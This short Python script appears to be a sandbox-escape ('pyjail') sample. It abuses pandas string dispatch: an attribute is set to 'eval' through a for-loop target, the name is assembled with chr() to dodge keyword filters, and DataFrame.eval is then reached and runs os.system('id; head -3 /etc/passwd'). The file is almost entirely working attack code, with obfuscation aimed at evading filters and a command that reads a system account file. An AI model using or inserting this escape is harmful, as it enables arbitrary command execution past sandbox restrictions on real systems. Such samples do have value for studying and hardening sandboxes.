# source: pyjail getattr-by-string families; pandas apply_str (pandas/core/apply.py) + DataFrame.eval @-scope
# family: pandas string dispatch via self.method shadowed by a for-loop target attribute (for a.fn in [...])
# goal: DataFrame.eval in pandas.core.apply frame -> inspect.os.system -> id, /etc/passwd
import pandas as pd
df = pd.DataFrame({"a": [1, 2]})
class A:
    def fn(self, x):
        return x.sum()
    def run(self, e):
        return df.apply(self.fn, args=(e,))
a = A()
for a.fn in ["ev" + chr(97) + "l"]:
    pass
try:
    a.run(chr(64) + "inspect.os.system('id; head -3 /etc/passwd')")
except AttributeError:
    pass
